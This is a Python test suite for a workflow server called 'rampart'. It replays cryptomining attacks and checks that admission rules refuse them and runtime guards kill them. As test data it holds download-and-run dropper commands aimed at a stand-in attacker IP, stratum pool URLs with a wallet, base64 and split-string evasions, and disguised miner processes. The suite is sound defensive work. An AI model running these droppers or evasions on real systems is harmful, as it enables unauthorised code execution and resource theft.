#!/usr/bin/env python3
"""Attack replay: the seed's incident, step by step, against a real `rampart server`.

    attack_replay_test.py /path/to/rampart

An unauthenticated stranger and an under-privileged user try to run a Monero miner the ways
attackers did (a miner image, a renamed miner pointed at a stratum pool, a download-and-run
script, a privileged pod), and each attempt is refused naming the rule. Then miners that slip
through admission are caught at run time: a busy loop whose executable is named like a miner,
a renamed miner script and a compiled one found by what they contain, a step connecting to a
pool port, and a step that outlives its time budget, are terminated with their node Failed and
the guard's reason on it, with an alert in the API, the audit log and /metrics. Bypass shapes
that beat the first guard's text matching (look-alike images, split or encoded pool URLs,
droppers, podSpecPatch spellings) are refused by meaning.
"""

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import unittest

import requests
import urllib3

urllib3.disable_warnings()

RAMPART = None
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
POLICY = """
watch:
  stepBudgetSeconds: 4
  action: terminate
namespaces:
  team-b:                  # runtime detection without the time budget racing it
    watch: {stepBudgetSeconds: 600}
"""

# Shapes that passed the text checks of the first guard (issue 14): each must be refused with
# 403 naming the rule, for an author who may send any workflow.
BYPASSES = [
    ("look-alike image xmrig2", {"image": "u/xmrig2", "command": ["true"]}, None, "image.miner"),
    ("look-alike image xmr1g", {"image": "docker.io/u/XMR1G:latest", "command": ["true"]}, None, "image.miner"),
    ("URL split across variables", None, "A=stratum+tcp; B=//203.0.113.9:3333; ./w -o $A:$B\n", "command.stratum"),
    ("URL split across arguments", {"image": "alpine", "command": ["/usr/local/bin/kworker", "-o", "stratum+tcp:", "//203.0.113.9:3333"]},
     None, "command.stratum"),
    ("URL through sh -c positionals", {"image": "alpine", "command": ["sh", "-c", "./w -o $1$2", "sh", "stratum+ssl:", "//203.0.113.9:443"]},
     None, "command.stratum"),
    ("base64-encoded URL", None, "u=$(echo c3RyYXR1bSt0Y3A6Ly8yMDMuMC4xMTMuOTozMzMz | base64 -d)\n./w -o \"$u\"\n", "command.stratum"),
    ("curl | python3", None, "curl -s http://203.0.113.9/i.py | python3\n", "command.dropper"),
    ("bash <(curl)", None, "bash <(curl -s http://203.0.113.9/i.sh)\n", "command.dropper"),
    ("curl -o; chmod 755; ./x", None, "curl -o x http://203.0.113.9/m; chmod 755 x; ./x\n", "command.dropper"),
    ("sh -c \"$(curl)\"", {"image": "alpine", "command": ["sh", "-c", "sh -c \"$(curl -fsSL http://203.0.113.9/i)\""]}, None,
     "command.dropper"),
    ("base64 dropper", None, "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvaSB8IHNo | base64 -d | sh\n", "command.dropper"),
]


class Env:
    pass


E = Env()


def call(method, path, token=None, **kw):
    headers = kw.pop("headers", {})
    if token:
        headers["Authorization"] = "Bearer " + token
    s = requests.Session()
    s.trust_env = False
    return s.request(method, E.url + path, headers=headers, verify=False, timeout=30, **kw)


def token(subject, role, ns="team-a"):
    out = subprocess.run([RAMPART, "token", "create", "--state", E.state, "--subject", subject, "--role", role,
                          "-n", ns, "-o", "json"], capture_output=True, text=True, check=True)
    return json.loads(out.stdout)["token"]


def container_wf(name, container, extra=None):
    t = {"name": "main", "container": container}
    t.update(extra or {})
    return {"metadata": {"name": name}, "spec": {"entrypoint": "main", "templates": [t]}}


def single_pod(wf):
    pods = [n for n in wf["status"].get("nodes", {}).values() if n.get("type") == "Pod"]
    assert len(pods) == 1, pods
    return pods[0]


def wait_phase(tok, ns, name, timeout):
    deadline = time.time() + timeout
    while time.time() < deadline:
        r = call("GET", f"/api/v1/workflows/{ns}/{name}", tok)
        phase = r.json().get("status", {}).get("phase")
        if phase in ("Succeeded", "Failed", "Error"):
            return r.json()
        time.sleep(0.25)
    return None


class AttackReplay(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        E.state = tempfile.mkdtemp(prefix="rampart-attack-")
        policy = E.state.rstrip("/") + "-policy.yaml"
        with open(policy, "w") as f:
            f.write(POLICY)
        E.policy = policy
        E.proc = subprocess.Popen([RAMPART, "server", "--state", E.state, "--listen", "127.0.0.1:0", "--policy", policy],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        E.admin = E.proc.stdout.readline().strip()
        for _ in range(300):
            if os.path.exists(os.path.join(E.state, "server.json")):
                break
            time.sleep(0.05)
        E.url = json.load(open(os.path.join(E.state, "server.json")))["url"]
        E.viewer = token("vic", "viewer")
        E.submitter = token("sue", "submitter")
        E.author = token("amy", "author")
        # An approved template that takes its image and arguments from parameters: admission
        # passes it, so what the submitter puts in the parameters must be caught.
        tmpl = {"metadata": {"name": "runner"},
                "spec": {"entrypoint": "main",
                         "arguments": {"parameters": [{"name": "image", "value": "busybox"},
                                                      {"name": "args", "value": "hello"}]},
                         "templates": [{"name": "main", "container": {
                             "image": "{{workflow.parameters.image}}",
                             "command": ["echo"], "args": ["{{workflow.parameters.args}}"]}}]}}
        r = call("POST", "/api/v1/workflow-templates/team-a", E.author, json={"template": tmpl})
        assert r.status_code == 200, r.text

    @classmethod
    def tearDownClass(cls):
        E.proc.terminate()
        try:
            E.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            E.proc.kill()
        shutil.rmtree(E.state, ignore_errors=True)
        os.remove(E.policy)

    def test_1_stranger_cannot_submit(self):
        wf = container_wf("x", {"image": "xmrig/xmrig"})
        self.assertEqual(call("POST", "/api/v1/workflows/team-a", json={"workflow": wf}).status_code, 401)
        self.assertEqual(call("GET", "/api/v1/info").status_code, 401)

    def test_2_viewer_cannot_submit(self):
        wf = container_wf("x", {"image": "busybox", "command": ["true"]})
        self.assertEqual(call("POST", "/api/v1/workflows/team-a", E.viewer, json={"workflow": wf}).status_code, 403)

    def assertDenied(self, r, rule):
        self.assertEqual(r.status_code, 403, r.text)
        self.assertIn(rule, r.json()["message"])

    def test_3_submitter_miner_image_is_denied(self):
        r = call("POST", "/api/v1/workflows/team-a/submit", E.submitter,
                 json={"resourceKind": "WorkflowTemplate", "resourceName": "runner",
                       "submitOptions": {"parameters": ["image=metal3d/xmrig:latest"]}})
        self.assertDenied(r, "image.miner")
        r = call("POST", "/api/v1/workflows/team-a", E.submitter,
                 json={"workflow": container_wf("direct", {"image": "xmrig/xmrig"})})
        self.assertEqual(r.status_code, 403)  # a submitter cannot send a workflow at all

    def test_4_renamed_miner_with_stratum_url_is_denied(self):
        r = call("POST", "/api/v1/workflows/team-a/submit", E.submitter,
                 json={"resourceKind": "WorkflowTemplate", "resourceName": "runner",
                       "submitOptions": {"parameters": ["args=--url=stratum+tcp://pool.example:3333 --user=" + WALLET]}})
        self.assertDenied(r, "command.stratum")
        wf = container_wf("renamed", {"image": "alpine", "command": ["/usr/local/bin/kworker"],
                                      "args": ["-o", "stratum+ssl://10.1.2.3:443", "-u", WALLET, "--donate-level=1"]})
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "command.stratum")

    def test_5_download_and_run_script_is_denied(self):
        wf = {"metadata": {"name": "dropper"}, "spec": {"entrypoint": "main", "templates": [
            {"name": "main", "script": {"image": "alpine", "command": ["sh"],
                                        "source": "wget -q http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k; /tmp/k\n"}}]}}
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "command.dropper")
        wf["spec"]["templates"][0]["script"]["source"] = "curl -fsSL http://203.0.113.9/i.sh | sh\n"
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "command.dropper")

    def test_6_privileged_pod_is_denied(self):
        wf = container_wf("priv", {"image": "alpine", "command": ["true"], "securityContext": {"privileged": True}})
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "pod.privileged")
        tmpl = {"metadata": {"name": "priv-tmpl"}, "spec": wf["spec"]}
        self.assertDenied(call("POST", "/api/v1/workflow-templates/team-a", E.author, json={"template": tmpl}),
                          "pod.privileged")

    def test_7_denials_are_audited(self):
        out = subprocess.run([RAMPART, "audit", "--state", E.state, "-o", "json", "--limit", "100000"],
                             capture_output=True, text=True, check=True)
        denied = [a for a in json.loads(out.stdout) if a["decision"] == "denied" and a["status"] == 403]
        self.assertTrue(any(a["subject"] == "sue" for a in denied))
        self.assertTrue(any(a["subject"] == "amy" for a in denied))

    def test_8_miner_named_busy_loop_is_terminated_at_run_time(self):
        # Passes admission: the miner's name only appears once the script runs (admission now
        # decodes base64, so the name is made by a command it does not model).
        script = ("n=$(echo ymrig | tr y x); cp /bin/sh /tmp/$n; "
                  "exec /tmp/$n -c 'while :; do :; done'\n")
        wf = {"metadata": {"name": "sneaky-miner"}, "spec": {"entrypoint": "main", "templates": [
            {"name": "main", "script": {"image": "alpine", "command": ["sh"], "source": script}}]}}
        start = time.time()
        r = call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf})
        self.assertEqual(r.status_code, 200, r.text)
        done = wait_phase(E.viewer, "team-a", "sneaky-miner", 45)
        self.assertIsNotNone(done, "the miner was not stopped")
        self.assertLess(time.time() - start, 30 + 5)
        self.assertEqual(done["status"]["phase"], "Failed")
        self.assertTrue(single_pod(done).get("message", "").startswith("guard: runtime.miner-process: "), done["status"])
        self.assertAlert("sneaky-miner", "runtime.miner-process")

    def test_9_step_beyond_its_time_budget_is_terminated(self):
        wf = container_wf("overtime", {"image": "busybox", "command": ["sleep", "120"]})
        start = time.time()
        self.assertEqual(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}).status_code, 200)
        done = wait_phase(E.viewer, "team-a", "overtime", 45)
        self.assertIsNotNone(done)
        self.assertLess(time.time() - start, 4 + 30)
        self.assertEqual(done["status"]["phase"], "Failed")
        self.assertTrue(single_pod(done).get("message", "").startswith("guard: runtime.time-budget: "), done["status"])
        self.assertAlert("overtime", "runtime.time-budget")

    def test_10_bypass_variants_are_denied_by_meaning(self):
        for i, (what, container, source, rule) in enumerate(BYPASSES):
            if source is not None:
                t = {"name": "main", "script": {"image": "alpine", "command": ["sh"], "source": source}}
                wf = {"metadata": {"name": "bypass-%d" % i}, "spec": {"entrypoint": "main", "templates": [t]}}
            else:
                wf = container_wf("bypass-%d" % i, container)
            with self.subTest(what):
                self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), rule)

    def test_11_pod_spec_patch_is_checked_by_structure(self):
        wf = container_wf("patched", {"image": "busybox", "command": ["true"]})
        wf["spec"]["podSpecPatch"] = "hostNetwork: True\n"
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "pod.host-namespace")
        # Through a parameter: accepted at submit, refused when the step starts, substituted.
        wf = container_wf("patched-later", {"image": "busybox", "command": ["true"]})
        wf["spec"]["podSpecPatch"] = "{{workflow.parameters.patch}}"
        wf["spec"]["arguments"] = {"parameters": [{"name": "patch", "value": "{\"hostNetwork\": \"true\"}"}]}
        r = call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf})
        self.assertEqual(r.status_code, 200, r.text)
        done = wait_phase(E.viewer, "team-a", "patched-later", 45)
        self.assertIsNotNone(done)
        self.assertIn(done["status"]["phase"], ("Failed", "Error"))
        pod = single_pod(done)
        self.assertIn("pod.host-namespace", pod.get("message", ""))

    def run_caught(self, name, script, rule):
        """Runs a step that passes admission and misbehaves only once running; it must be
        stopped with its node Failed and the guard's reason on it, although its shell would go
        on to exit 0."""
        author = token("bea", "author", "team-b")
        viewer = token("val", "viewer", "team-b")
        wf = {"metadata": {"name": name}, "spec": {"entrypoint": "main", "templates": [
            {"name": "main", "script": {"image": "alpine", "command": ["sh"], "source": script}}]}}
        r = call("POST", "/api/v1/workflows/team-b", author, json={"workflow": wf})
        self.assertEqual(r.status_code, 200, r.text)
        done = wait_phase(viewer, "team-b", name, 90)
        self.assertIsNotNone(done, "the miner was not stopped")
        self.assertEqual(done["status"]["phase"], "Failed", done["status"])
        pod = single_pod(done)
        self.assertEqual(pod["phase"], "Failed")
        self.assertTrue(pod.get("message", "").startswith("guard: " + rule + ": "), pod)
        alerts = call("GET", "/api/v1/alerts", viewer).json()["items"]
        self.assertTrue(any(a["workflow"] == name and a["rule"] == rule for a in alerts), alerts)
        return pod

    def test_12_renamed_miner_script_is_killed_and_its_step_fails(self):
        script = ("u=$(echo xtratum+tcp://203.0.113.9:3333 | tr x s)\n"
                  "printf '#!/bin/sh\\n# pool %s\\nwhile :; do :; done\\n' \"$u\" > /tmp/kworker\n"
                  "sh /tmp/kworker\n"
                  "echo the shell carries on\n"
                  "exit 0\n")
        pod = self.run_caught("renamed-script", script, "runtime.miner-process")
        self.assertIn("stratum+tcp://", pod["message"])

    @unittest.skipUnless(shutil.which("gcc"), "gcc is not installed")
    def test_13_renamed_compiled_miner_is_killed_by_its_content(self):
        script = ("u=$(echo xtratum+tcp://203.0.113.9:3333 | tr x s)\n"
                  "printf 'const char *pool = \"%s\";\\nint main(void) { volatile const char *p = pool; for (;;) { (void)*p; } }\\n' "
                  "\"$u\" > /tmp/w.c\n"
                  "gcc -O0 -o /tmp/systemd-helper /tmp/w.c || exit 3\n"
                  "/tmp/systemd-helper\n"
                  "echo the shell carries on\n"
                  "exit 0\n")
        pod = self.run_caught("renamed-binary", script, "runtime.miner-process")
        self.assertIn("content of the program it runs", pod["message"])

    def test_14_connection_to_a_pool_port_is_caught(self):
        # The step's own loopback stands in for a pool: no network is needed to be seen opening one.
        script = ("python3 -c \"import socket,time; s=socket.socket(); s.bind(('127.0.0.1', 3333)); s.listen(1); "
                  "c=socket.create_connection(('127.0.0.1', 3333)); time.sleep(120)\"\n"
                  "exit 0\n")
        pod = self.run_caught("pool-connection", script, "runtime.pool-connection")
        self.assertIn("127.0.0.1:3333", pod["message"])

    def assertAlert(self, workflow, rule):
        alerts = call("GET", "/api/v1/alerts", E.viewer).json()["items"]
        self.assertTrue(any(a["workflow"] == workflow and a["rule"] == rule for a in alerts), alerts)
        metrics = call("GET", "/metrics", E.viewer).text
        self.assertRegex(metrics, r'rampart_guard_alerts_total\{rule="%s",severity="[a-z]+"\} [1-9]' % rule)
        self.assertEqual(call("GET", "/metrics").status_code, 401)
        out = subprocess.run([RAMPART, "audit", "--state", E.state, "-o", "json", "--limit", "100000"],
                             capture_output=True, text=True, check=True)
        self.assertTrue(any(a["subject"] == "guard" and a["route"] == rule and a["object"] == "team-a/" + workflow
                            for a in json.loads(out.stdout)))
        cli = subprocess.run([RAMPART, "alerts", "--state", E.state, "-n", "team-a", "-o", "json"],
                             capture_output=True, text=True, check=True)
        self.assertTrue(any(a["rule"] == rule for a in json.loads(cli.stdout)))


if __name__ == "__main__":
    RAMPART = os.path.abspath(sys.argv.pop(1))
    unittest.main(verbosity=2)
